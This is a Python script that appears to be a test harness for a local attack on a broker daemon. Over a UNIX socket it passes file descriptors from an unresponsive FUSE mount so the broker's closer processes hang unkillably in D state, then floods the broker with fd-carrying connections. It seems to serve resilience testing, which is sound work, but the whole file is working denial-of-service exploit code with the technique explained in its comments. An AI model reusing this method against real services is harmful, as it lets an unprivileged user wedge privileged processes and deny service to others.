#!/usr/bin/env python3
# An unprivileged user's attack on the closers of pushed connections, run by `fuse-hold.py --write MNT` (in the
# user's own user and mount namespace). First ROUNDS times: hello (its reply left unread, so the broker looks at
# nothing else yet), push an fd F1 of MNT/fN, close our F1 (nothing dirty yet: that returns), dirty a page of fN
# through a second fd (kept), then read the replies. The broker refuses the frame with fds and hands the whole
# connection to a closer, whose close of it is F1's last release, which waits in D state for a WRITE the server
# never answers: the closer is stuck, and outlives the broker's SIGKILL. Then, once GATE exists, FLOOD
# connections that each push one fd (a pipe's end) and go; once GATE2 exists, one more round like the first.
# One JSON line per phase on stdout; then it waits.
#   wedge.py SOCKET MNT ROUNDS FLOOD GATE
import array, json, os, socket, sys, time

sockpath, mnt, rounds, flood, gate = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
HELLO = bytes([0x83, 0xa2]) + b'op' + bytes([0xa5]) + b'hello' + bytes([0xa2]) + b'id' + bytes([1, 0xa7]) + b'version' + bytes([2])
LIST = bytes([0x82, 0xa2]) + b'op' + bytes([0xa4]) + b'list' + bytes([0xa2]) + b'id' + bytes([2])

def rights(fds):
    return [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', fds))]

keep = []

def wedge(i):
    """One round: pushes a descriptor of MNT/fI, dirties the file, reads the replies; True if refused."""
    c = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    c.connect(sockpath)
    c.send(HELLO)
    f1, f2 = os.open(f'{mnt}/f{i}', os.O_RDWR), os.open(f'{mnt}/f{i}', os.O_RDWR)
    c.sendmsg([LIST], rights([f1]))
    os.close(f1)
    os.pwrite(f2, b'z' * 4096, 0)
    keep.extend([f2, c])
    c.settimeout(5)
    c.recv(4096)
    return b'TB_E_UNEXPECTED_FDS' in c.recv(4096)

refused = 0
for i in range(rounds):
    refused += wedge(i)
    time.sleep(2.6)  # the broker finds that closer stuck after 2 s and kills it, in vain
print(json.dumps({'phase': 'wedged', 'refused': refused}), flush=True)
while not os.path.exists(gate):
    time.sleep(0.1)
rp, _wp = os.pipe()
pushed = 0
for _ in range(flood):
    c = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    for _attempt in range(100):
        try:
            c.connect(sockpath)
            break
        except OSError:
            time.sleep(0.05)
    try:
        c.sendmsg([LIST], rights([rp]))
        pushed += 1
    except OSError:
        pass
    c.close()
print(json.dumps({'phase': 'flooded', 'pushed': pushed}), flush=True)
# Then, once GATE2 exists, one more like the first ones: its connection, with a dirty file of ours queued in it,
# waits in a bin (every closer is stuck), where the broker's stop must not release it in the broker.
while not os.path.exists(gate + '2'):
    time.sleep(0.1)
print(json.dumps({'phase': 'binned', 'refused': wedge(rounds)}), flush=True)
time.sleep(10 ** 6)
